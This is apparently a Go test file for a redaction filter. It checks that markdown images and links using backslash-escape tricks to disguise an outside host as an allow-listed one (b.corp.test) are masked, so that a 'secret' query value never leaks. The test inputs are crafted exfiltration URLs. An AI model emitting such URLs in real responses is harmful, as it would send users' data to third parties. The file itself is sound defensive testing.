package redact

import (
	"testing"

	"github.com/stretchr/testify/require"

	"portcullis/shared/exchange/exchangetest"
)

// Markdown takes a backslash before a mark for an escape: the host goes on with the mark.
func TestAListedHostIsNoneWhereMarkdownReadsOnInIt(t *testing.T) {
	g := exchangetest.New(t, exchangetest.Hold, load, `{"host":HOST,"hosts":["b.corp.test"],"default":{"links":"mask","images":"mask","personal":"allow"}}`)
	for _, text := range []string{
		`![x](https://b.corp.test\@a.test/?d=secret)`, `![x](https://b.corp.test\.a.test/?d=secret)`, `![x](//b.corp.test\.a.test/?d=secret)`,
		`[x](https://b.corp.test\@a.test/?d=secret)`, `https://b.corp.test\@a.test/?d=secret`, "[x]: https://b.corp.test\\@a.test/?d=secret",
	} {
		require.NotContains(t, said(t, g.Send(request(false), whole(text))), "secret", text)
		require.NotContains(t, said(t, g.Send(request(true), streamed(text))), "secret", text)
	}
	kept := `![x](https://b.corp.test/a\@b.png?c)`
	require.Equal(t, kept, said(t, g.Send(request(false), whole(kept))))
}
